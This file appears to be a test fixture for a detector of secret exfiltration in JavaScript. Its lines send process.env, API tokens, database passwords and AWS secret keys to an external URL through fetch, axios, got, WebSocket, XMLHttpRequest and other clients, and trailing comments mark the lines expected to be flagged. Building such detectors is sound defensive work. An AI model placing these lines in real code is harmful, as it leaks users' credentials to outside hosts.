const axios = require('axios'); const https = require('https'); const got = require('got');
fetch(u, { method: 'POST', body: JSON.stringify(process.env) });
axios.post(u, process.env);
axios.post(u, { env: { ...process.env } });
fetch(u + process.env.API_TOKEN);
fetch(`https://x.example/?k=${process.env.AWS_SECRET_ACCESS_KEY}`);
fetch(u, { headers: { ...process.env } });
const key = process.env.DB_PASSWORD;
axios.get(u, { params: { key } });
got.post(u, { json: Object.entries(process.env) });
const body = JSON.stringify({ e: process.env }); fetch(u, { method: 'POST', body });
fetch(u, { body: Buffer.from(JSON.stringify(process.env)).toString('base64') });
const post = https.request(u); post.setHeader('authorization', process.env.API_TOKEN);
post.write(JSON.stringify(process.env));
post.end(process.env.API_TOKEN);
const ws = new WebSocket(u); ws.onopen = () => ws.send(JSON.stringify(process.env));
const xhr = new XMLHttpRequest(); xhr.open('POST', u); xhr.setRequestHeader('authorization', process.env.API_TOKEN);
xhr.send(JSON.stringify({ ...process.env }));
axios.create({ baseURL: u }).post('/', process.env);
require('superagent').post(u).set('authorization', process.env.API_TOKEN).send(process.env);
// expect 2 any.secret-sent
// expect 3 any.secret-sent
// expect 4 any.secret-sent
// expect 5 any.secret-sent
// expect 6 any.secret-sent
// expect 7 any.secret-sent
// expect 9 any.secret-sent
// expect 10 any.secret-sent
// expect 11 any.secret-sent
// expect 12 any.secret-sent
// expect 14 any.secret-sent
// expect 15 any.secret-sent
// expect 16 any.secret-sent
// expect 18 any.secret-sent
// expect 19 any.secret-sent
// expect 20 any.secret-sent
